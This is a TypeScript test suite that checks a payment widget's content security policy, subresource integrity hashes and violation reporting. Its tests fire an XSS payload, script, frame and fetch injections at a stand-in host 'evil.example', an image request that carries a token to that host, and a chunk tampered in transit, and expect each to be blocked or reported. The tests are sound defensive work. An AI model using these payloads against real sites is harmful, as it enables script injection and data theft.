import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright';
import { afterEach, describe, expect, test } from 'vitest';
import { DESKTOP } from '../support/browser.ts';
import { journey as base } from '../support/journey.ts';
import { startOpenPartner } from '../support/partner.ts';
import { releaseUnless } from '../support/release-only.ts';
import { fillSpei, submit } from '../support/user-actions.ts';
import { takeViolations } from '../support/violations.ts';

const root = (path: string) => fileURLToPath(new URL(`../../${path}`, import.meta.url));
const hash = (content: string | Buffer, kind = 'sha256') =>
  `${kind}-${createHash(kind).update(content).digest('base64')}`;

function readPage(folder: string) {
  const html = readFileSync(join(root(folder), 'index.html'), 'utf8');
  const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
  const directives = new Map(
    policy.split('; ').map((directive) => {
      const [name = '', ...sources] = directive.split(' ');
      return [name, sources] as const;
    }),
  );
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].map(
    ([, tag = '', code = '']) => ({
      tag,
      code,
    }),
  );
  const links = [...html.matchAll(/<link\b[^>]*rel="(?:modulepreload|stylesheet|preload)"[^>]*>/g)].map(
    ([tag]) => tag,
  );
  return { html, policy, directives, scripts, links };
}

const attribute = (tag: string, name: string) => new RegExp(`\\s${name}="([^"]*)"`).exec(tag)?.[1];
/** Expects that the hash in a tag is that of its file; a tag without a hash fails too. */
function expectSealed(tag: string, folder: string): void {
  const path = (attribute(tag, 'src') ?? attribute(tag, 'href') ?? '').replace('/paywidget/', '');
  expect(attribute(tag, 'integrity'), tag).toBe(hash(readFileSync(join(root(folder), path))));
}

describe.each(['dist/paywidget', 'dist/webview'])('the built page in %s', (folder) => {
  const { html, directives, scripts, links } = readPage(folder);

  test('has its content security policy before all scripts and styles', () => {
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.search(/<script|<link/));
    const own = Object.fromEntries(directives);
    expect(own).toMatchObject({
      'default-src': ["'none'"],
      'object-src': ["'none'"],
      'base-uri': ["'none'"],
      'require-trusted-types-for': ["'script'"],
    });
    expect(own['trusted-types']?.filter((name) => /[*']/.test(name))).toEqual([]);
    // The policy names each script by its path, because a host or a scheme alone would allow every script of that host or scheme.
    const wide = own['script-src']?.filter(
      (source) => !/^'(?:self|sha256-.*)'$|^https:\/\/[\w.]+\/.+/.test(source),
    );
    expect(wide).toEqual([]);
    // `frame-ancestors` is missing, because browsers ignore it in a meta element, with a warning.
    expect([...directives.keys()]).not.toContain('frame-ancestors');
  });

  test('lists a matching hash for every script, preloaded module and style sheet', () => {
    expect(scripts.length).toBeGreaterThan(0);
    for (const { tag, code } of scripts) {
      if (attribute(tag, 'src')) expectSealed(tag, folder);
      else expect(directives.get('script-src')).toContain(`'${hash(code)}'`);
    }
    for (const tag of links) expectSealed(tag, folder);
  });
});

test('the page build lists the hash of every chunk that may be loaded later', () => {
  const { scripts } = readPage('dist/paywidget');
  const map = JSON.parse(scripts.find(({ tag }) => tag.includes('importmap'))?.code ?? '{}');
  const files = readdirSync(root('dist/paywidget'), { recursive: true, encoding: 'utf8' }).filter((path) =>
    path.endsWith('.js'),
  );
  expect(files.length).toBeGreaterThan(10);
  const hashes = files.map((path) => [
    `/paywidget/${path}`,
    hash(readFileSync(join(root('dist/paywidget'), path))),
  ]);
  expect(map).toEqual({ integrity: Object.fromEntries(hashes) });
});

let server: 'as it is' | 'sends no policy' | 'changes a chunk' = 'as it is';

const journey = base.extend('settings', { scope: 'file' }, () => ({
  intercept({ url = '' }: IncomingMessage, response: ServerResponse) {
    const path = url.replace(/\?.*/, '');
    if (server === 'sends no policy' && path === '/paywidget/') {
      response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      response.end(readFileSync(root('dist/paywidget/index.html')));
    } else if (server === 'changes a chunk' && /^\/paywidget\/chunks\/view-[\w-]+\.js$/.test(path)) {
      response.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' });
      response.end(`${readFileSync(root(`dist${path}`), 'utf8')}\nwindow.evil = true;`);
    } else return false;
    return true;
  },
}));
afterEach(() => {
  server = 'as it is';
});

for (const mode of ['frame', 'iframe', 'webview'] as const) {
  journey(
    `without a content security policy from the server the page keeps its own, and the user can pay: ${mode}`,
    releaseUnless(mode === 'frame'),
    async ({ embed, panel, consoleErrors }) => {
      server = 'sends no policy';
      const { page, widget } = await embed(mode);
      await fillSpei(widget, '512');
      await submit(widget, 'Deposit');
      await widget.getByRole('heading', { name: 'How to pay' }).waitFor();
      expect(await panel.payments()).toMatchObject([{ amount: '512.00' }]);
      expect(takeViolations()).toEqual([]);

      const frame = page.frames().find((each) => each.url().includes('/paywidget/')) ?? page.mainFrame();
      const refused = await frame.evaluate(async () => {
        const messages: string[] = [];
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          messages.push(effectiveDirective),
        );
        const attempts = [
          () => Reflect.set(document.body, 'innerHTML', '<img src=x onerror=alert(1)>'),
          () =>
            document.head.append(
              Object.assign(document.createElement('base'), { href: 'https://evil.example/' }),
            ),
          () => fetch('https://evil.example/').catch(() => undefined),
          () =>
            document.body.append(
              Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }),
            ),
          () =>
            document.head.append(
              Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
            ),
        ];
        for (const attempt of attempts) {
          try {
            await attempt();
          } catch {
            // The import of a blocked script is rejected; the test reads the browser's report about it below.
          }
        }
        // Waits for the reports, because the browser's main process reports a blocked frame some time later.
        const end = performance.now() + 20_000;
        while (new Set(messages).size < 4 && performance.now() < end)
          await new Promise((resolve) => setTimeout(resolve, 50));
        await new Promise((resolve) => setTimeout(resolve, 200));
        return messages;
      });
      takeViolations();
      consoleErrors.length = 0;
      expect([...new Set(refused)].sort()).toEqual([
        'base-uri',
        'connect-src',
        'frame-src',
        'require-trusted-types-for',
      ]);
    },
  );
}

journey.extend('allowedConsoleErrors', () => /integrity|Failed to (?:fetch|load)/i)(
  'a chunk that was changed in transit does not run, and the page says that it could not load',
  async ({ embed }) => {
    server = 'changes a chunk';
    // A routed request bypasses the browser's cache, which may hold the unchanged chunk.
    const prepare = async (page: Page) => {
      await page.route(/\/chunks\//, (route) => route.continue());
    };
    const { widget } = await embed('iframe', {}, { prepare });
    await widget.getByRole('button', { name: 'Refresh' }).waitFor();
  },
);

function headersOf(title: string, cashier: string): Record<string, string> {
  const doc = readFileSync(root('docs/security.md'), 'utf8');
  const [, block = ''] = new RegExp(`${title}[\\s\\S]*?\`\`\`http\\n([\\s\\S]*?)\`\`\``).exec(doc) ?? [];
  const socket = cashier.replace(/^http/, 'ws');
  return Object.fromEntries(
    block
      .trim()
      .split('\n')
      .map((line) => {
        const [name = '', value = ''] = line.split(/: (.*)/);
        return [
          name,
          value.replaceAll('wss://cashier.example', socket).replaceAll('https://cashier.example', cashier),
        ];
      }),
  );
}

journey(
  'under the report-only policy of the docs the widget pays, and a violation appears in the journal',
  { tags: 'release' },
  async ({ open, embed, sandbox, panel, consoleErrors }) => {
    const journal = await open({ embed: '0' }, { viewport: DESKTOP, isAlone: true });
    const headers = headersOf('### Report only, to begin with', sandbox.url);
    const name = 'Content-Security-Policy-Report-Only';
    // Leaves `report-to` out, because Chromium delays its reports by up to a minute; those of `report-uri` come at once.
    const atOnce = { [name]: (headers[name] ?? '').replace(/; report-to \w+/, '') };
    const partner = await startOpenPartner(sandbox.url, atOnce);
    try {
      const { page, widget } = await embed('inline', {}, { partner: partner.url });
      await fillSpei(widget, '512');
      await submit(widget, 'Deposit');
      await widget.getByRole('heading', { name: 'How to pay' }).waitFor();
      expect(await panel.payments()).toMatchObject([{ amount: '512.00' }]);
      expect(takeViolations()).toEqual([]);

      const entries = journal.getByRole('region', { name: 'Journal' }).getByRole('listitem');
      expect((await entries.allInnerTexts()).join()).not.toContain('report only');
      await page.evaluate(() => {
        new Image().src = 'https://evil.example/secret-of-ada.png?token=7';
        document.createElement('div').innerHTML = '<b>Ada</b>';
      });
      const text = async () => (await entries.allInnerTexts()).join('\n');
      await expect
        .poll(text)
        .toMatch(/img-src\s+https:\/\/evil\.example on http:\/\/localhost:\d+ \(report only\)/);
      await expect.poll(text).toMatch(/require-trusted-types-for\s+Element innerHTML on .* \(report only\)/);
      expect(await text()).not.toMatch(/ada|token=7/i);
      takeViolations();
      consoleErrors.length = 0;
    } finally {
      await partner.stop();
    }
  },
);
